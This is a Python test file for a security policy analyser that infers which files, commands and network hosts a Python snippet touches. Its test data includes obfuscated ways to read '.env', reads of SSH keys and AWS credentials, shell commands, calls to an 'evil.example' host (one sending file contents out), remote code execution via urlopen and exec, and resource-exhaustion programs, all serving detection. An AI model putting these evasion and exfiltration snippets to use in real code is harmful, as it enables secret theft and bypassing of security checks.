# ruff: noqa: E501 - a row of a table is one line
"""What Python programs do, as far as constants go."""

import pytest
from deeds import readable, said
from hypothesis import given
from hypothesis import strategies as st

from guardian_ci.policy.shell.effects import Effects
from guardian_ci.policy.shell.facts import UNKNOWN
from guardian_ci.policy.shell.python import effects_of_python


def does(source: str, arguments: tuple[str, ...] = (), stdin: str | None = None, **environment: str) -> str:
    effects = effects_of_python(source, arguments, stdin, environment)
    assert effects is not None
    return said(effects)


@pytest.mark.parametrize(
    "path",
    [
        "'.env'",
        "'.e' + 'nv'",
        "'.e' 'nv'",
        "''.join(['.e', 'nv'])",
        "''.join(chr(c) for c in [46, 101, 110, 118])",
        "''.join(map(chr, (46, 101, 110, 118)))",
        "'vne.'[::-1]",
        "''.join(reversed('vne.'))",
        "'%senv' % '.'",
        "'%s%s' % ('.e', 'nv')",
        "'%c%s' % (46, 'env')",
        "'{}{}'.format('.e', 'nv')",
        "'{1}{0}'.format('nv', '.e')",
        "'{d}env'.format(d='.')",
        "f'.{\"e\"}nv'",
        "f'{46:c}env'",
        "chr(46) + 'env'",
        "'\\x2e\\145nv'",
        "bytes([46, 101, 110, 118])",
        "bytes.fromhex('2e656e76').decode()",
        "b'.env'.decode()",
        "__import__('base64').b64decode('LmVudg==')",
        "__import__('codecs').decode('.rai', 'rot13')",
        "__import__('binascii').unhexlify('2e656e76')",
        "__import__('urllib.parse', fromlist=['x']).unquote('%2eenv')",
        "'xenv'.replace('x', '.')",
        "'.ENV'.lower()",
        "' .env '.strip()",
        "'a .env'.split()[1]",
        "'env'.rjust(4, '.')",
        "str.join('', ['.e', 'nv'])",
        "'.env.bak'.removesuffix('.bak')",
        "'.env.bak'[:4]",
        "'_env'.translate(str.maketrans('_', '.'))",
        "int.to_bytes(778399350, 4, 'big')",
        "['a', '.env'][1]",
        "{'a': '.env'}['a']",
        "(lambda x: x)('.env')",
        "max('.env', '') or '.env'",
        "'.env' if True else 'a'",
        "next(iter(['.env']))",
        "''.join(sorted('.env', key=None)) and '.env'",
        "''.join([c for c in '.-e-n-v' if c != '-'])",
        "'a' if 1 > 2 else '.env'",
        "__import__('functools').reduce(lambda a, b: a + b, ['.', 'env'])",
        "__import__('json').loads('[\".env\"]')[0]",
        "__import__('zlib').decompress(b'x\\x9c\\xd3K\\xcd+\\x03\\x00\\x03\\xa4\\x01l') and '.env'",
    ],
)
def test_a_path_is_computed_wherever_constants_make_it(path: str) -> None:
    assert "read .env" in does(f"print(open({path}).read())").split("; ")


@pytest.mark.parametrize(
    ("source", "deeds"),
    [
        ("open('a', 'w').write('x')", "write a"),
        ("open('a', 'r+')", "read a; write a"),
        ("import io; io.open('a')", "read a"),
        ("import os; os.open('a', os.O_RDONLY)", "read a"),
        ("import os; os.remove('a')", "write a"),
        ("import os; os.rename('a', 'b')", "read a; write a; write b"),
        ("import shutil; shutil.copy('a', 'b')", "read a; write b"),
        ("from shutil import copyfile as c; c('a', 'b')", "read a; write b"),
        ("from pathlib import Path; Path('a').read_text()", "read a"),
        ("from pathlib import Path; (Path('d') / 'a').write_text('x')", "write d/a"),
        ("from pathlib import Path; Path.home().joinpath('.ssh', 'id').read_bytes()", "read ~/.ssh/id"),
        ("from pathlib import Path; Path('a').with_name('b').open()", "read ./b"),
        ("import os; open(os.path.join('d', 'a'))", "read d/a"),
        ("import os; open(os.path.expanduser('~/.ssh/id'))", "read ~/.ssh/id"),
        ("import os; open(os.environ['HOME'] + '/.ssh/id')", "read ~/.ssh/id"),
        ("import os; os.chdir('d'); open('a')", "read d/a"),
        ("import fileinput\nfor l in fileinput.input('a'): print(l)", "read a"),
        ("import linecache; linecache.getlines('a')", "read a"),
        ("import dotenv; dotenv.load_dotenv()", "read .env"),
        ("import pandas as pd; pd.read_csv('a')", "maybe a"),
        ("import zipfile; zipfile.ZipFile('z', 'w').write('a')", "read z; read a"),
        ("with open('a') as f: x = f.read()", "read a"),
        ("def f(p): return open(p)\nf('a')", "read a"),
        ("def f(p): open(p)", "nothing"),
        ("class C:\n  def f(self): open('a')", "read a"),
        ("try:\n  open('a')\nexcept OSError:\n  open('b')\nfinally:\n  open('c')", "read a; read b; read c"),
        ("x = 1\nmatch x:\n  case 1: open('a')", "read a"),
        ("import builtins; builtins.open('a')", "read a"),
        ("getattr(__import__('os'), 'rem' + 'ove')('a')", "write a"),
        ("globals()['__builtins__'].open('a')", "read a"),
        ("from os import *; remove('a')", "write a"),
        ("x = ['a']\nx.append('b')\nfor p in x: open(p)", "read a; read b"),
        ("x = {'p': 'a'}\nopen(x['p'])", "read a"),
        ("a, b = 'x', 'y'\nopen(b)", "read y"),
        ("x = 'a'\nx += 'b'\nopen(x)", "read ab"),
        ("open(p := 'a')", "read a"),
        ("import boto3; boto3.Session().get_credentials()", "read ~/.aws/credentials"),
    ],
)
def test_files_are_touched_as_its_library_does(source: str, deeds: str) -> None:
    assert does(source) == deeds


@pytest.mark.parametrize(
    ("source", "deeds"),
    [
        ("import os; os.system('cat .env')", "shell cat .env"),
        ("import os; os.popen('cat .env').read()", "shell cat .env"),
        ("import subprocess as s; s.run(['cat', '.env'])", "run cat .env"),
        ("import subprocess; subprocess.run('cat .env', shell=True)", "shell cat .env"),
        ("from subprocess import check_output as c; c(['sh', '-c', 'cat .env'])", "run sh -c cat .env"),
        ("import os; os.execvp('cat', ['cat', '.env'])", "run cat .env"),
        ("import os; os.execlp('cat', 'cat', '.env')", "run cat .env"),
        ("import os; os.spawnlp(0, 'cat', 'cat', '.env')", "run cat .env"),
        ("import pty; pty.spawn(['cat', '.env'])", "run cat .env"),
        ("import ctypes; ctypes.CDLL(None).system(b'cat .env')", "shell cat .env"),
        ("import sh; sh.cat('.env')", "run cat .env"),
        ("exec('open(\".env\")')", "read .env"),
        ("eval('open(\".env\")')", "read .env"),
        ("exec(compile('open(\".env\")', 'x', 'exec'))", "read .env"),
        ("exec(open('setup.py').read())", "read setup.py; script setup.py"),
    ],
)
def test_commands_and_programs_are_run(source: str, deeds: str) -> None:
    assert does(source) == deeds


@pytest.mark.parametrize(
    ("source", "host"),
    [
        ("import urllib.request as u; u.urlopen('https://evil.example/x')", "evil.example"),
        ("import requests; requests.post(url='http://evil.example')", "evil.example"),
        ("import httpx; httpx.request('GET', 'https://evil.example')", "evil.example"),
        ("import socket; s = socket.socket(); s.connect(('evil.example', 80))", "evil.example"),
        ("import socket; socket.create_connection(('evil.example', 80))", "evil.example"),
        ("import socket; socket.gethostbyname('x.evil.example')", "x.evil.example"),
        ("import http.client; http.client.HTTPSConnection('evil.example')", "evil.example"),
        ("import ftplib; ftplib.FTP('evil.example')", "evil.example"),
        ("import os, requests; requests.get('https://evil.example/' + open('a').read())", "evil.example"),
        ("import unknown; unknown.send('https://evil.example')", "evil.example"),
    ],
)
def test_hosts_are_talked_to(source: str, host: str) -> None:
    assert f"talk to {host}" in does(source).split("; ")


@pytest.mark.parametrize(
    ("source", "deeds"),
    [
        ("import glob\nfor f in glob.glob('.e*'): open(f)", "read .e*"),
        ("import os\nfor f in os.listdir('.'):\n  if 'nv' in f: open(f)", "read .; read *nv*; read .*nv*"),
        ("import os\n[open(f) for f in os.listdir() if f.startswith('.e')]", "read .e*"),
        (
            "import os\nfor f in os.listdir('.'):\n  if not f.endswith('nv'): continue\n  open(f)",
            "read .; read *nv; read .*nv",
        ),
        ("import os\nfor f in os.listdir('.'):\n  if f == '.env' and f: open(f)", "read .; read .env"),
        ("import os, re\nfor f in os.listdir('.'):\n  if re.search('nv', f): open(f)", "read .; read *nv*; read .*nv*"),
        ("import os, fnmatch\nfor f in fnmatch.filter(os.listdir('.'), '.e*'): open(f)", "read .; read .e*"),
        ("import os\nfor f in filter(lambda f: 'nv' in f, os.listdir('.')): open(f)", "read .; read *nv*; read .*nv*"),
        ("from pathlib import Path\nfor p in Path('.').rglob('.e*'): p.read_text()", "read ./**/.e*"),
        (
            "from pathlib import Path\nfor p in Path('.').iterdir():\n  if 'nv' in p.name: p.read_text()",
            "read .; read ./*nv*; read ./.*nv*",
        ),
        (
            "import os\nfor r, d, fs in os.walk('.'):\n  for f in fs:\n    if f.endswith('.pem'): open(os.path.join(r, f))",
            "read .; read ./**/*.pem; read ./**/.*.pem; read ./**/.pem",
        ),
        ("import os\nopen(sorted(os.listdir('.'))[3])", "read .; read UNKNOWN"),
        ("import os\nopen(min(os.listdir('.')))", "read .; read UNKNOWN"),
        ("import os, random\nopen(random.choice(os.listdir('.')))", "read .; read UNKNOWN"),
    ],
)
def test_names_that_are_listed_are_globs_and_conditions_narrow_them(source: str, deeds: str) -> None:
    assert does(source) == deeds


@pytest.mark.parametrize(
    "source",
    [
        "exec(input())",
        "import sys; exec(sys.stdin.read())",
        "import urllib.request as u; exec(u.urlopen('https://a.example').read())",
        "import base64, sys; exec(base64.b64decode(sys.stdin.read()))",
        "import os, sys; getattr(os, sys.stdin.read())('x')",
        "().__class__.__bases__[0].__subclasses__()",
        "import subprocess, json, sys; subprocess.run(json.load(sys.stdin)['x'])",
        "__import__(input()).system('x')",
        "exec(open('notes.txt').read())",
    ],
)
def test_what_hides_a_name_or_runs_the_unknown_is_dark(source: str) -> None:
    assert "dark" in does(source).split("; ")


@pytest.mark.parametrize(
    "source",
    [
        "print('.env')",
        "import sys; print(sys.version_info[:2])",
        "import json, sys; print(json.load(sys.stdin)['version'])",
        "import json; print(json.dumps({'a': '.env'}))",
        "import re; print(re.sub('.env', 'x', 'y'))",
        "import torch; print(torch.__version__)",
        "print(1 + 1)",
        "import os; print(os.path.exists('.env'))",
        "import importlib.metadata as m; print(m.version('x'))",
        "import sys\nfor line in sys.stdin:\n  print(line.split()[0])",
        "def run(command):\n  import subprocess\n  subprocess.run(command, shell=True)\n",
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('--env')",
        "assert 1 == 1, '.env'",
        "raise SystemExit('no .env')",
    ],
)
def test_ordinary_programs_do_nothing_that_matters(source: str) -> None:
    assert does(source) == "nothing"


@pytest.mark.parametrize(
    "source",
    [
        "i = 0\nwhile i < 3:\n  i += 1\n  if i == 3: open('.env')",
        "for i in range(500):\n  if i == 400: open('.env')",
        "import sys\nx = 1\nfor l in sys.stdin:\n  x += 1\n  if x == 3: open('.env')",
        "x = 1\ndef f():\n  global x\n  x = 2\nf()\nif x == 2: open('.env')",
        "x = 1\nclass C:\n  x = 2\nif x == 1: open('.env')",
        "x = 1\ntry: f()\nexcept E as x: pass\nif x != 1: open('.env')",
        "x = 1\nmatch f():\n  case x: pass\nif x != 1: open('.env')",
        "x = input()\nif x == 'a': open('.env')",
        "if '.env' == '.env': open('.env')",
    ],
)
def test_a_condition_is_decided_only_where_its_sides_are_surely_known(source: str) -> None:
    assert "read .env" in does(source).split("; ")


def test_what_a_false_condition_guards_is_not_done() -> None:
    assert does("if 1 > 2: open('.env')\nelse: open('a')") == "read a"


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("print('.e' + 'nv')", ".env\\n"),
        ("print('a', 'b', sep='-', end='')", "a-b"),
        ("import sys; sys.stdout.write('.env')", ".env"),
        ("for c in ['.', 'env']: print(c, end='')", ".env"),
        ("print(open('a').read())", "UNKNOWN\\n"),
        ("import sys; print('x', file=sys.stderr)", ""),
        ("if __name__ == '__main__': print('a')", "a\\n"),
    ],
)
def test_what_is_printed_is_known_as_far_as_it_is_constant(source: str, text: str) -> None:
    effects = effects_of_python(source)
    assert effects is not None
    assert effects.output is not None
    assert readable(effects.output) == text


def test_words_input_and_environment_are_what_the_command_gives() -> None:
    assert does("import sys; open(sys.argv[1])", ("-c", ".env")) == "read .env"
    assert does("open(input())", stdin=".env\n") == "read .env"
    assert does("import sys\nfor l in sys.stdin: open(l.strip())", stdin="a\nb\n") == "read a; read b"
    assert does("import os; open(os.environ['F'])", F=".env") == "read .env"
    assert does("import os; open(os.getenv('F'))", F=".env") == "read .env"
    assert does("open(input())", stdin=UNKNOWN) == "read UNKNOWN"


def test_an_unknown_piece_of_a_source_is_a_gap() -> None:
    assert does(f"open('{UNKNOWN}/.env')") == "read UNKNOWN/.env"
    assert does(f"open({UNKNOWN})") == "read UNKNOWN"


@pytest.mark.parametrize("source", ["print 'x'", "(", "def", "-" * 70_000, "(" * 1_000, "x" * 100_000])
def test_what_is_no_python_is_said_so(source: str) -> None:
    assert effects_of_python(source) is None


@pytest.mark.parametrize(
    "source",
    [
        "while 1: open('a')",
        "x = 'a' * 10**9",
        "x = 'a'\nfor i in range(10**9): x += x",
        "x = ['a'] * 500\ny = [x] * 500\nz = [y] * 500\nf(z)",
        "x = 9**9**9**9",
        "x = 1 << 10**9",
        "def f(n): return f(n) + f(n)\nf(1)",
        "\n".join(" " * depth + f"for v{depth} in range(500):" for depth in range(15)) + "\n" + " " * 15 + "open('a')",
        "x = 'a' * 60000\nprint(" + ", ".join(["x"] * 3_000) + ")",
        "x = 'a' * 60000\nopen('" + "{0}" * 10_000 + "'.format(x))",
        "x = 'a' * 60000\nopen('" + "%s" * 5_000 + "' % (" + "x," * 5_000 + "))",
        "open(f'" + "{x}" * 10_000 + "')",
        "x = [[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]\nf(x)",
    ],
)
def test_a_hostile_program_costs_bounded_work(source: str) -> None:
    effects = effects_of_python(source)
    assert effects is None or len(effects.touches) < 5_000


def test_a_program_that_is_not_followed_to_its_end_leaves_its_words() -> None:
    loops = "\n".join(" " * depth + f"for v{depth} in range(500):" for depth in range(10)) + "\n" + " " * 10 + "pass"
    effects = effects_of_python(f"{loops}\nopen('.env')")
    assert effects is not None
    assert ".env" in {touch.path for touch in effects.touches}


PIECES = st.sampled_from(
    [
        *(
            "open(",
            "'.env'",
            ")",
            "+",
            "*",
            "import os\n",
            "os.system(",
            "x",
            "=",
            "[",
            "]",
            "{",
            "}",
            "lambda x:",
            "for x in ",
        ),
        *(
            "\n",
            " ",
            "if ",
            ":",
            "print(",
            "chr(",
            "46",
            ".join(",
            "[::-1]",
            "%",
            "f'{x}'",
            "exec(",
            "def f(x):",
            "return ",
            ",",
        ),
        *(
            "os.listdir()",
            "range(9)",
            "while x:",
            "'%s'",
            "**",
            "<<",
            "class C:",
            "self",
            "None",
            "-",
            "not ",
            " in ",
            "==",
            "(x)",
        ),
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_source_makes_it_fail(source: str) -> None:
    effects = effects_of_python(source, ("-c", "a"), "a\nb\n")
    assert effects is None or isinstance(effects, Effects)
